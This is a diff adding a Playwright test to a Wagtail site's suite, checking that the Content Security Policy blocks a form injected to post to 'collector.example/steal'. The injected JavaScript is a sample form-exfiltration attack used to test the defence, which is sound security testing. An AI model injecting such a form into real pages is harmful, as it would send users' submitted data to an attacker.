@@ -124,3 +124,20 @@ def test_wagtail_editor_previews_chooses_an_image_and_publishes_without_a_violat
     expect(page.get_by_role("heading", level=1)).to_have_text(
         "Gift cards, previewed under a strict policy"
     )
+
+
+def test_a_form_injected_to_post_elsewhere_is_refused(page, site_home, csp_violations):
+    page.goto("/")
+    page.evaluate(
+        """() => {
+          const form = document.createElement("form");
+          form.method = "post";
+          form.action = "https://collector.example/steal";
+          document.body.appendChild(form);
+          form.submit();
+        }"""
+    )
+    page.wait_for_timeout(500)
+    assert page.url.endswith("/")  # still on the site
+    assert "form-action" in "\n".join(csp_violations)
+    csp_violations.clear()  # provoked on purpose
